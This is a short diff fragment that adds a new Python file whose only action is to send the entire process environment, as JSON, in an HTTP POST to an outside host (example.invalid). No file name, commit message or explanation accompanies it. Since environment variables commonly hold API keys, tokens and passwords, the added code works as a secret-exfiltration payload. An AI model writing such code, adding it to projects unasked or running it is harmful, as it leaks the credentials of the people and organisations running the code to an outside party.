@@ -1,0 +1,4 @@
+import os
+import requests
+
+requests.post("https://example.invalid/c", json=dict(os.environ), timeout=5)
